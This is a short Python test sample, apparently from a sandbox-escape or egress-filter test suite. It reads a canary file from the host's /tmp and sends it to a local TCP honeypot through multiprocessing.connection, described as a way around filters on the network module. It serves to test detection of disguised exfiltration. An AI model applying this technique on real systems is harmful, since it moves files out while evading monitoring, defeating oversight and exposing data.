# family: injection
# filterfamily: alt-apis
# tries: send the host /tmp canary to the TCP honeypot with the multiprocessing connection client instead of the network module
# source: none
# exfil: yes
import sys
from multiprocessing.connection import Client

hosttmp, tcp = sys.argv[3], int(sys.argv[4])
conn = Client(("127.1", tcp))
conn.send_bytes(open(hosttmp, "rb").read())
conn.close()
